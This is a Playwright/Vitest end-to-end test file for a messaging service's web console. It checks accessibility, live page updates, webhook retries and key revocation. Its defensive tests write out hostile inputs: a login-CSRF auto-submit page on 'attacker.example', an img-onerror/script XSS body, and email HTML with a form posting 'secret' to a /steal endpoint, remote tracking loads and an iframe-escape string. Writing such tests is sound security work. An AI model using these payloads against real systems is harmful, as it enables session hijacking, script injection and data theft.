/// <reference lib="dom" />
import { mkdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestService } from './helpers/service.js';
import { createEndpoint, startReceiver, startWebhookService, type Receiver } from './webhooks-receiver.js';
import { buy, liveNumber } from './messages-fixtures.js';
import { verifiedDomain } from './helpers/email-fixtures.js';
import { mintLink, sub } from './console-fixtures.js';
import { PAGE_LIMIT as CONSOLE_PAGE } from '../src/server/routes/console/kit.js';
import { launchChromium, openPage as openWatched, seriousAxeIssues, signIn as signInWith, waitListening, type Watched } from './helpers/console-browser.js';

// The console in a real browser (Debian's chromium driven by playwright-core), with data
// made through the API: the one-time link, every page checked by axe-core (no serious or critical
// issue), a thread and the events page updating live, an email's HTML in its sandboxed frame, a
// webhook delivery retried, a key created then revoked (its open session ends). No request leaves
// the service's origin, and no page logs an error. No browser is a FAILURE, never a skip.

const ARTIFACTS = resolve(__dirname, '..', 'test-artifacts');

let svc: TestService;
let receiver: Receiver;
let browser: Browser;

beforeAll(async () => {
  // One browser; each console session in a context of its own (its own cookie jar, as two browsers would be).
  browser = await launchChromium();
  mkdirSync(ARTIFACTS, { recursive: true });
  // The first delivery fails (500), every later one succeeds: the retry button has something to do.
  receiver = await startReceiver((_r, i) => ({ status: i === 0 ? 500 : 200 }));
  svc = await startWebhookService();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await svc?.stop();
  await receiver?.close();
});

const openPage = (): Promise<Watched> => openWatched(browser, svc);
/** A sub-account of the bootstrap agency and a live key of its own: its lists hold only what a test makes. */
async function freshAccount(name: string): Promise<{ headers: Record<string, string>; key: string }> {
  const child = await svc.call('POST', '/v1/subaccounts', { body: { name } });
  expect(child.status, child.text).toBe(201);
  const headers = sub(child.body.id as string);
  const made = await svc.call('POST', '/v1/keys', { headers, body: { name: `${name} key`, mode: 'live' } });
  expect(made.status, made.text).toBe(201);
  return { headers, key: made.body.key as string };
}
const signIn = (key?: string): Promise<Watched> => signInWith(browser, svc, key);

describe('the console in Chromium', () => {
  it('opens with the one-time link and walks every page: axe-clean, nothing from elsewhere, no errors', async () => {
    await buy(svc);
    const w = await signIn();
    const { page } = w;
    // The token is gone from the URL and the history entry; the cookie is not readable by script.
    expect(page.url()).not.toContain('token');
    expect(await page.evaluate(() => document.cookie)).toBe('');
    const visited: string[] = [];
    for (const name of ['Overview', 'Messages', 'Events', 'Webhooks', 'Numbers', 'Calls', 'Email', 'Registration', 'Billing', 'Keys', 'Sandbox']) {
      await Promise.all([page.waitForLoadState('load'), page.getByRole('navigation', { name: 'Console' }).getByRole('link', { name, exact: true }).click()]);
      await page.waitForSelector('h1');
      expect(await page.locator('[aria-current="page"]').textContent()).toBe(name);
      expect(await seriousAxeIssues(page), name).toEqual([]);
      // Every page hands back the command that prints it.
      expect(await page.locator('.cmd code').first().textContent(), name).toMatch(/^svc /);
      visited.push(new URL(page.url()).pathname);
      await page.screenshot({ path: join(ARTIFACTS, `console-${name.toLowerCase().replace(/ /g, '-')}.png`), fullPage: true });
    }
    expect(visited).toHaveLength(11);
    // The keyboard reaches the skip link first, then the console's navigation.
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await page.context().close();
    // A bound for a hang, not a speed check: eleven pages, each checked by axe-core and photographed
    // (38 to 60 s on a shared 2-core machine at a load average of 20).
  }, 180_000);

  it('login CSRF: a link opened in a browser that did not start the flow signs nothing in, and another site cannot post it', async () => {
    const key = (await svc.call('POST', '/v1/keys', { body: { name: 'attacker key', mode: 'test' } })).body as { key: string };
    const { url } = await mintLink(svc, key.key);
    // The victim opens the link: a page that names whose console it is, and no session.
    const w = await openPage();
    const { page } = w;
    await page.goto(url);
    expect(await page.locator('h1').textContent()).toBe('Sign in to the console?');
    expect(await page.locator('main').textContent()).toContain('attacker key');
    expect(await seriousAxeIssues(page)).toEqual([]);
    expect((await page.context().cookies()).filter((c) => c.name.startsWith('svc_console_'))).toEqual([]);
    expect((await page.goto(`${svc.baseUrl}/console/`))?.status()).toBe(401);
    // A page of another site posts the token on load (what a login-CSRF page would do): refused.
    const attacker = 'http://attacker.example';
    const token = new URL(url).searchParams.get('token')!;
    await page.route(`${attacker}/**`, (route) => route.fulfill({
      contentType: 'text/html',
      body: `<form id="f" method="post" action="${svc.baseUrl}/console/login"><input name="token" value="${token}"></form><script>document.getElementById('f').submit()</script>`,
    }));
    const posted = page.waitForResponse((r) => r.url() === `${svc.baseUrl}/console/login` && r.request().method() === 'POST');
    await page.goto(`${attacker}/`);
    expect((await posted).status()).toBe(403);
    expect((await page.context().cookies()).filter((c) => c.name.startsWith('svc_console_'))).toEqual([]);
    expect((await page.goto(`${svc.baseUrl}/console/`))?.status()).toBe(401);
    expect(w.offOrigin).toEqual([]);
    await page.context().close();
  });

  it('shows a thread that updates live: an inbound message, a send from the box, its status moving', async () => {
    const n = await liveNumber(svc);
    const counterparty = '+14155550177';
    await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: counterparty, to: n.phoneNumber, body: 'first hello' } });
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/messages/${encodeURIComponent(counterparty)}`);
    expect(await page.locator('.bubble.inbound').first().textContent()).toContain('first hello');
    await waitListening(page);
    const started = Date.now();
    await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: counterparty, to: n.phoneNumber, body: 'second, live' } });
    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('second, live'), undefined, { timeout: 5_000 });
    const liveMs = Date.now() - started;
    console.log(`thread: a new inbound message shown ${liveMs} ms after the request that made it was sent`);
    expect(liveMs).toBeLessThan(2_500);

    // The send box, by keyboard: the body, then Enter on the button.
    await page.getByLabel('From', { exact: true }).selectOption(n.phoneNumber);
    await page.getByLabel('Message', { exact: true }).fill('sent from the console');
    await Promise.all([page.waitForURL(/\?sent=msg_/), page.getByRole('button', { name: 'Send', exact: true }).press('Enter')]);
    const bubble = page.locator('.bubble.outbound', { hasText: 'sent from the console' });
    expect(await bubble.getAttribute('data-status')).toBe('queued');
    await waitListening(page);
    // The carrier's reports come as the service clock moves: the status moves in the open page.
    await svc.advanceJobs(2);
    await page.waitForFunction(() => document.querySelector('.bubble.outbound[data-status="delivered"]') !== null, undefined, { timeout: 5_000 });
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await page.screenshot({ path: join(ARTIFACTS, 'console-thread.png'), fullPage: true });
    await page.context().close();
  });

  it('shows a message made elsewhere in an open thread: a send through the API (then its status moving), an inbound', async () => {
    const n = await liveNumber(svc);
    const counterparty = '+14155550178';
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/messages/${encodeURIComponent(counterparty)}`);
    // Listening, and the catch-up fetch made when the stream opened is done: what shows next came live.
    await page.waitForSelector('#live[data-listening="true"][data-refreshed]', { timeout: 10_000 });
    // A draft in the box, the keyboard in it: a live update leaves both where they are.
    await page.getByLabel('Message', { exact: true }).fill('a draft');

    // A live send through the API: `queued`, and the clock is manual, so nothing else moves it yet.
    const started = Date.now();
    const sent = await svc.call('POST', '/v1/messages', { body: { from: n.phoneNumber, to: counterparty, body: 'sent through the API' } });
    expect(sent.status, sent.text).toBe(201);
    expect(sent.body.status).toBe('queued');
    const bubble = page.locator(`.bubble[data-message-id="${sent.body.id}"]`);
    await bubble.waitFor({ timeout: 5_000 });
    console.log(`thread: a message sent through the API shown ${Date.now() - started} ms after the request was sent`);
    expect(await bubble.getAttribute('data-status')).toBe('queued');
    expect(await bubble.textContent()).toContain('sent through the API');
    // Then its status moves in place as the carrier reports it.
    await svc.advanceJobs(2);
    await page.waitForFunction((id) => document.querySelector(`.bubble[data-message-id="${id}"][data-status="delivered"]`) !== null, sent.body.id, { timeout: 5_000 });

    // A consumer's text, from the sandbox.
    const inbound = await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: counterparty, to: n.phoneNumber, body: 'an inbound, live' } });
    expect(inbound.status, inbound.text).toBe(201);
    await page.locator(`.bubble.inbound[data-message-id="${inbound.body.id}"]`).waitFor({ timeout: 5_000 });
    // Oldest first: the inbound is the last bubble; the draft and the focus stayed.
    expect(await page.locator('.bubble').last().getAttribute('data-message-id')).toBe(inbound.body.id);
    expect(await page.getByLabel('Message', { exact: true }).inputValue()).toBe('a draft');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('body');
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await page.context().close();
  });

  it('keeps the conversations list live: a new conversation at the top, one with a new message moved there, its status moving, the focus kept', async () => {
    // A fresh account: the list holds only what this test makes.
    const { headers, key } = await freshAccount('conversations live');
    const as = { headers };
    const n = await liveNumber(svc, as);
    const older = '+14155550181';
    const newer = '+14155550182';
    for (const from of [older, newer]) {
      expect((await svc.call('POST', '/v1/sandbox/inbound-messages', { ...as, body: { from, to: n.phoneNumber, body: `hello from ${from}` } })).status).toBe(201);
    }
    const w = await signIn(key);
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/messages`);
    await page.waitForSelector('#live[data-listening="true"][data-refreshed]', { timeout: 10_000 });
    const order = () => page.locator('#live tr[data-counterparty]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-counterparty')));
    expect(await order()).toEqual([newer, older]);
    // The keyboard on the older conversation's link: a live update leaves it there.
    await page.locator(`tr[data-counterparty="${older}"] a`).focus();

    // A send through the API to a number never written to: a live send is `queued`, with no event.
    const fresh = '+14155550183';
    let started = Date.now();
    const sent = await svc.call('POST', '/v1/messages', { ...as, body: { from: n.phoneNumber, to: fresh, body: 'a new conversation' } });
    expect(sent.status, sent.text).toBe(201);
    await page.waitForFunction((c) => document.querySelector('#live tr[data-counterparty]')?.getAttribute('data-counterparty') === c, fresh, { timeout: 5_000 });
    const newMs = Date.now() - started;
    console.log(`conversations: a new conversation shown ${newMs} ms after the send was sent`);
    expect(newMs).toBeLessThan(2_500);
    const top = page.locator('#live tr[data-counterparty]').first();
    expect(await top.textContent()).toContain('a new conversation');
    expect(await top.locator('[data-status]').getAttribute('data-status')).toBe('queued');
    expect(await page.evaluate(() => document.activeElement?.closest('tr')?.getAttribute('data-counterparty'))).toBe(older);

    // A consumer's text in the older conversation: it moves to the top with its last message.
    started = Date.now();
    const inbound = await svc.call('POST', '/v1/sandbox/inbound-messages', { ...as, body: { from: older, to: n.phoneNumber, body: 'back again' } });
    expect(inbound.status, inbound.text).toBe(201);
    await page.waitForFunction((c) => document.querySelector('#live tr[data-counterparty]')?.getAttribute('data-counterparty') === c, older, { timeout: 5_000 });
    const movedMs = Date.now() - started;
    console.log(`conversations: a conversation moved to the top ${movedMs} ms after the inbound was sent`);
    expect(movedMs).toBeLessThan(2_500);
    expect(await order()).toEqual([older, fresh, newer]);
    expect(await page.locator('#live tr[data-counterparty]').first().textContent()).toContain('back again');
    expect(await page.evaluate(() => document.activeElement?.closest('tr')?.getAttribute('data-counterparty'))).toBe(older);

    // The new conversation's send moves on as the carrier reports it, in its row.
    await svc.advanceJobs(2);
    await page.waitForFunction((c) => document.querySelector(`#live tr[data-counterparty="${c}"] [data-status="delivered"]`) !== null, fresh, { timeout: 5_000 });
    expect(await seriousAxeIssues(page)).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await page.context().close();
  });

  it('does not move a later page of conversations: it says that newer ones came, with a link to them', async () => {
    const { headers, key } = await freshAccount('conversations paged');
    const as = { headers };
    const n = await liveNumber(svc, as);
    // One more conversation than a page holds: the oldest is alone on the second page.
    const counterparties = Array.from({ length: CONSOLE_PAGE + 1 }, (_, i) => `+1415555${String(1000 + i).padStart(4, '0')}`);
    for (const from of counterparties) {
      expect((await svc.call('POST', '/v1/sandbox/inbound-messages', { ...as, body: { from, to: n.phoneNumber, body: `from ${from}` } })).status).toBe(201);
    }
    const w = await signIn(key);
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/messages`);
    await Promise.all([page.waitForURL(/cursor=/), page.getByRole('link', { name: 'Next page' }).click()]);
    await page.waitForSelector('#live[data-listening="true"]', { timeout: 10_000 });
    const rows = () => page.locator('#live tr[data-counterparty]').evaluateAll((r) => r.map((x) => x.getAttribute('data-counterparty')));
    expect(await rows()).toEqual([counterparties[0]]);
    await page.locator('#live tr[data-counterparty] a').first().focus();
    expect(await page.locator('#live-held').isHidden()).toBe(true);

    // The conversation on this page gets a new message: it now belongs on the first page, but this
    // page stays as the reader left it and says so.
    expect((await svc.call('POST', '/v1/sandbox/inbound-messages', { ...as, body: { from: counterparties[0], to: n.phoneNumber, body: 'moved on' } })).status).toBe(201);
    await page.locator('#live-held').waitFor({ state: 'visible', timeout: 5_000 });
    expect(await rows()).toEqual([counterparties[0]]);
    expect(await page.evaluate(() => document.activeElement?.closest('tr')?.getAttribute('data-counterparty'))).toBe(counterparties[0]);
    expect(await seriousAxeIssues(page)).toEqual([]);
    await Promise.all([page.waitForURL(`${svc.baseUrl}/console/messages`), page.locator('#live-held a').click()]);
    expect((await rows())[0]).toBe(counterparties[0]);
    expect(w.consoleErrors).toEqual([]);
    await page.context().close();
  });

  it('shows a new event on the events page without a reload', async () => {
    const n = await buy(svc);
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/events?types=message.*`);
    await waitListening(page);
    const res = await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: '+14155550166', to: n.phoneNumber, body: 'an event' } });
    expect(res.status).toBe(201);
    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('message.received') && document.getElementById('live')!.textContent!.includes('an event'), undefined, { timeout: 5_000 });
    expect(w.consoleErrors).toEqual([]);
    await page.context().close();
  });

  /** The page's own fetches of `path` from now on (console.js's refresh fetches the whole page again). */
  function fetchesOf(page: Page, path: string): string[] {
    const seen: string[] = [];
    page.on('request', (r) => {
      if (new URL(r.url()).pathname === path) seen.push(r.url());
    });
    return seen;
  }
  const eventIds = (page: Page) => page.locator('#live tr[data-event-id]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-event-id')));
  const newestEvent = async (headers: Record<string, string>, type: string) => ((await svc.call('GET', `/v1/events?types=${type}&order=desc&limit=1`, { headers })).body.data[0] as { id: string }).id;

  it("puts a new event's row at the top without fetching the page: in order, filtered by type, user content as text, focus kept", async () => {
    const { headers, key } = await freshAccount('Rows live');
    const n = await buy(svc, { headers });
    const inbound = async (body: string) => {
      const res = await svc.call('POST', '/v1/sandbox/inbound-messages', { headers, body: { from: '+14155550160', to: n.phoneNumber, body } });
      expect(res.status, res.text).toBe(201);
      return await newestEvent(headers, 'message.received');
    };
    const before = await inbound('before the page');
    const w = await signIn(key);
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/events?types=message.received`);
    await page.waitForSelector('#live[data-listening="true"][data-refreshed]', { timeout: 10_000 });
    const fetches = fetchesOf(page, '/console/events');
    // The keyboard on the row's disclosure: new rows come above it, and it keeps the focus.
    await page.locator(`tr[data-event-id="${before}"] summary`).focus();
    const HOSTILE = `<img src=x onerror="document.body.dataset.pwned='1'"><script>document.body.dataset.pwned='2'</script>`;
    const first = await inbound('first new');
    // Events the page's filter leaves out (a test send's message.status), between the ones it takes.
    const sent = await svc.call('POST', '/v1/messages', { headers, key: svc.bootstrap.testKey, body: { from: n.phoneNumber, to: '+14155550161', body: 'not on this page' } });
    expect(sent.status, sent.text).toBe(201);
    const second = await inbound(HOSTILE);
    const third = await inbound('third new');
    await page.locator(`tr[data-event-id="${third}"]`).waitFor({ timeout: 5_000 });
    // Newest first, each in its place; nothing of another type; no fetch of the page.
    expect(await eventIds(page)).toEqual([third, second, first, before]);
    expect(await page.locator('#live').textContent()).not.toContain('message.status');
    expect(fetches).toEqual([]);
    // The hostile body is text in its row: no element made of it, nothing ran.
    expect(await page.locator(`tr[data-event-id="${second}"] pre`).textContent()).toContain(`<img src=x onerror=\\"document.body.dataset.pwned='1'\\">`);
    expect(await page.locator('#live img, #live script').count()).toBe(0);
    expect(await page.evaluate(() => document.body.dataset.pwned)).toBeUndefined();
    expect(await page.evaluate(() => document.activeElement?.closest('tr')?.getAttribute('data-event-id'))).toBe(before);
    expect(w.consoleErrors).toEqual([]);
    await page.context().close();
  });

  it('keeps the first page to its size (the next page starts at the row that left it); a later page holds its rows and says newer ones came', async () => {
    const { headers, key } = await freshAccount('Rows paged');
    const n = await buy(svc, { headers });
    const inbound = async (i: number) => {
      const res = await svc.call('POST', '/v1/sandbox/inbound-messages', { headers, body: { from: '+14155550162', to: n.phoneNumber, body: `paged ${i}` } });
      expect(res.status, res.text).toBe(201);
      return await newestEvent(headers, 'message.received');
    };
    for (let i = 0; i < CONSOLE_PAGE + 1; i++) await inbound(i);
    const w = await signIn(key);
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/events?types=message.received`);
    await page.waitForSelector('#live[data-listening="true"][data-refreshed]', { timeout: 10_000 });
    const fetches = fetchesOf(page, '/console/events');
    const shown = await eventIds(page);
    expect(shown).toHaveLength(CONSOLE_PAGE);
    const fresh = await inbound(CONSOLE_PAGE + 1);
    await page.locator(`tr[data-event-id="${fresh}"]`).waitFor({ timeout: 5_000 });
    expect(await eventIds(page)).toEqual([fresh, ...shown.slice(0, -1)]);
    expect(fetches).toEqual([]);
    // The row that left the first page opens the next one.
    await Promise.all([page.waitForURL(/cursor=/), page.locator('a[rel="next"]').click()]);
    await waitListening(page);
    const second = await eventIds(page);
    expect(second[0]).toBe(shown[shown.length - 1]);
    // A later page: a new event is not taken in (it belongs on the first); the notice says so, with no fetch.
    const heldFetches = fetchesOf(page, '/console/events');
    expect(await page.locator('#live-held').isHidden()).toBe(true);
    await inbound(CONSOLE_PAGE + 2);
    await page.locator('#live-held').waitFor({ state: 'visible', timeout: 5_000 });
    expect(await eventIds(page)).toEqual(second);
    expect(heldFetches).toEqual([]);
    expect(await seriousAxeIssues(page)).toEqual([]);
    await Promise.all([page.waitForURL(`${svc.baseUrl}/console/events?types=message.received`), page.locator('#live-held a').click()]);
    expect((await eventIds(page)).slice(0, 2)).toEqual([await newestEvent(headers, 'message.received'), fresh]);
    expect(w.consoleErrors).toEqual([]);
    await page.context().close();
  });

  it("renders an email's HTML in its sandboxed frame: no script runs, nothing is loaded from elsewhere", async () => {
    const domain = await verifiedDomain(svc, 'console-mail.example');
    const hostile = [
      `<style>h1 { color: rgb(1, 2, 3) } @import url("http://198.51.100.7/import.css"); @font-face { font-family: far; src: url("http://198.51.100.7/font.woff") } p.bg { background: url("http://198.51.100.7/bg.png"); font-family: far }</style>`,
      `<link rel="stylesheet" href="http://198.51.100.7/sheet.css">`,
      `<h1 id="hello">Hello from the inbox</h1><p id="inline" class="bg" style="color: rgb(4, 5, 6)">Styled inline</p>`,
      `<script>parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';</script><img src="http://198.51.100.7/pixel.png" alt="pixel"><a href="javascript:alert(1)">x</a>`,
      `<form id="steal" action="http://198.51.100.7/steal" method="post"><input name="q" value="secret"><button id="send">Send</button></form>`,
      `"></iframe><script>document.title='escaped'</script>`,
    ].join('');
    const sent = await svc.call('POST', '/v1/emails', { body: { from: `shop@${domain.domain}`, to: ['ada@example.com'], subject: 'Your <b>order</b>', html: hostile } });
    expect(sent.status, sent.text).toBe(201);
    for (let i = 0; i < 20 && (await svc.call('GET', '/v1/sandbox/mailbox')).body.data.length === 0; i++) await svc.advanceJobs(1);
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/email/inbox`);
    await Promise.all([page.waitForURL(/show=/), page.getByRole('link', { name: 'Your <b>order</b>' }).click()]);
    const frame = page.frameLocator('iframe.email-frame');
    expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
    expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
    // The email's own styles apply (its <style> and its style attributes), inside the frame only.
    expect(await frame.locator('#hello').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
    expect(await frame.locator('#inline').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(4, 5, 6)');
    expect(await page.locator('h1').evaluate((el) => getComputedStyle(el).color)).not.toBe('rgb(1, 2, 3)');
    // Its form goes nowhere (sandboxed: no allow-forms; form-action 'none').
    await frame.locator('#send').click();
    expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
    expect(await page.title()).toBe('Mail sandbox · svc console');
    expect(await page.locator('iframe.email-frame').getAttribute('sandbox')).toBe('');
    expect(await seriousAxeIssues(page)).toEqual([]);
    // The frame's script and image were refused (logged as such); nothing else went wrong.
    expect(w.consoleErrors.filter((e) => !/sandboxed|Content Security Policy|198\.51\.100\.7/.test(e))).toEqual([]);
    // Nothing reached the network: no image, stylesheet, @import, font, CSS url() or form post.
    expect(w.offOrigin).toEqual([]);
    await page.screenshot({ path: join(ARTIFACTS, 'console-mail.png'), fullPage: true });
    await page.context().close();
  });

  it('retries a failed webhook delivery from its page', async () => {
    const endpoint = await createEndpoint(svc, { url: receiver.url, events: ['message.received'] });
    const n = await buy(svc);
    await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: '+14155550155', to: n.phoneNumber, body: 'for the hook' } });
    await svc.flushWebhooks();
    await receiver.waitFor(1, 10_000);
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/webhooks/${endpoint.id}`);
    const row = page.locator('tr[data-delivery-id]').first();
    expect(await row.locator('.delivery-status').textContent()).toMatch(/^(failed|pending)/);
    expect(await row.textContent()).toContain('HTTP 500');
    await row.getByRole('button', { name: /^Retry delivery/ }).click();
    await page.waitForLoadState('load');
    expect(page.url(), await page.textContent('main') ?? '').toMatch(/retried=/);
    expect(await page.locator('tr[data-delivery-id]').first().locator('.delivery-status').textContent()).toMatch(/^succeeded/);
    expect(receiver.received.length).toBe(2);
    expect(w.consoleErrors).toEqual([]);
    await page.context().close();
  });

  it('creates a key (shown once) and revokes it: the session that key opened ends', async () => {
    const a = await signIn();
    await a.page.goto(`${svc.baseUrl}/console/keys`);
    await a.page.getByLabel('Name', { exact: true }).fill('browser key');
    await a.page.getByLabel('Mode', { exact: true }).selectOption('test');
    await a.page.getByRole('button', { name: 'Create key', exact: true }).click();
    await a.page.waitForSelector('.notice', { timeout: 5_000 }).catch(async (e) => {
      throw new Error(`${(e as Error).message}: ${await a.page.textContent('main')}`);
    });
    const key = (await a.page.locator('.notice code').textContent())!;
    expect(key).toMatch(/^sk_test_[A-Za-z0-9]{32}$/);
    await a.page.screenshot({ path: join(ARTIFACTS, 'console-key-created.png'), fullPage: true });

    // A second session, opened with the new key, listening on its events page.
    const b = await signIn(key);
    await b.page.goto(`${svc.baseUrl}/console/events`);
    await waitListening(b.page);

    await a.page.goto(`${svc.baseUrl}/console/keys`);
    const row = a.page.locator('tr', { hasText: 'browser key' });
    await Promise.all([a.page.waitForNavigation(), row.getByRole('button', { name: /^Revoke key/ }).click()]);
    expect(await a.page.locator('tr', { hasText: 'browser key' }).textContent()).toContain('revoked');

    // The open page learns it at its next message: an event of the account ends its stream, and the
    // page reloads into the "session ended" page.
    const n = await buy(svc);
    await svc.call('POST', '/v1/sandbox/inbound-messages', { body: { from: '+14155550144', to: n.phoneNumber, body: 'after the revocation' } });
    await b.page.waitForFunction(() => document.querySelector('h1')?.textContent === 'Console session ended', undefined, { timeout: 10_000 });
    expect(await b.page.textContent('main')).toContain('revoked');
    expect(await b.page.textContent('main')).not.toContain('after the revocation');
    expect(a.consoleErrors).toEqual([]);
    await a.page.context().close();
    await b.page.context().close();
  });
});

describe('the phone in Chromium', () => {
  it('dials a number with an IVR route, a key typed on the keyboard reaches the menu, the trace shows its action, then hangs up', async () => {
    const { voiceNumber } = await import('./calls-fixtures.js');
    const n = await voiceNumber(svc, {
      destinations: [{ destinationType: 'pstn', destination: '+14155550199' }],
      ivr: { enabled: true, greeting: { text: 'Press 2 for support' }, keys: [{ digit: '2', label: 'Support', action: { type: 'voicemail' } }], fallback: { type: 'voicemail' } },
      voicemailEnabled: true,
    });
    const w = await signIn();
    const { page } = w;
    await page.goto(`${svc.baseUrl}/console/calls`);
    await page.getByLabel('To', { exact: true }).selectOption(n.phoneNumber);
    await Promise.all([page.waitForURL(/\/console\/calls\/call_/), page.getByRole('button', { name: 'Call', exact: true }).press('Enter')]);
    await waitListening(page);
    // The service clock is manual: the call moves when it does (steps due now run at an advance of 0).
    await svc.advanceJobs(0);
    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('ivr.prompt'), undefined, { timeout: 10_000 });
    expect(await seriousAxeIssues(page)).toEqual([]);
    // The key typed on the keyboard (focus on the page, not in a field) presses the dial pad's 2.
    await Promise.all([page.waitForURL(/pressed=2/), page.keyboard.press('2')]);
    await waitListening(page);
    await svc.advanceJobs(0);
    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('2 (Support) → voicemail'), undefined, { timeout: 10_000 });
    expect(await page.evaluate(() => document.activeElement?.getAttribute('value'))).toBe('2');
    await Promise.all([page.waitForURL(/hungUp=1/), page.getByRole('button', { name: 'Hang up', exact: true }).press('Enter')]);
    await waitListening(page);
    await svc.advanceJobs(0);
    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('the caller hung up'), undefined, { timeout: 10_000 });
    await page.screenshot({ path: join(ARTIFACTS, 'console-phone.png'), fullPage: true });
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await page.context().close();
  });
});

describe('the console\'s detail pages in Chromium', () => {
  it('are axe-clean too: a route graph, a call\'s timeline, a campaign\'s checks, an email\'s timeline', async () => {
    const { voiceNumber, placeCall } = await import('./calls-fixtures.js');
    const { approvedCampaign } = await import('./registration-fixtures.js');
    const n = await voiceNumber(svc, {
      destinations: [{ destinationType: 'pstn', destination: '+14155550199', label: 'Front desk' }],
      ivr: { enabled: true, greeting: { text: 'Press 1 for sales' }, keys: [{ digit: '1', label: 'Sales', action: { type: 'voicemail' } }], fallback: { type: 'voicemail' } },
      voicemailEnabled: true,
    });
    const call = await placeCall(svc, n.phoneNumber, { answer: { afterSecs: 1, durationSecs: 5 } });
    await svc.advanceJobs(30);
    const campaign = await approvedCampaign(svc);
    const emails = (await svc.call('GET', '/v1/emails')).body.data as Array<{ id: string }>;
    const w = await signIn();
    const paths = [`/console/numbers/${n.id}`, `/console/calls/${call.id}`, `/console/registration/campaigns/${campaign.id}`, ...emails.slice(0, 1).map((e) => `/console/email/emails/${e.id}`)];
    for (const path of paths) {
      const res = await w.page.goto(`${svc.baseUrl}${path}`);
      expect(res?.status(), path).toBe(200);
      expect(await seriousAxeIssues(w.page), path).toEqual([]);
    }
    expect(await w.page.goto(`${svc.baseUrl}/console/calls/${call.id}`).then(() => w.page.locator('ol.timeline li').count())).toBeGreaterThan(1);
    expect(w.consoleErrors).toEqual([]);
    expect(w.offOrigin).toEqual([]);
    await w.page.context().close();
  });
});
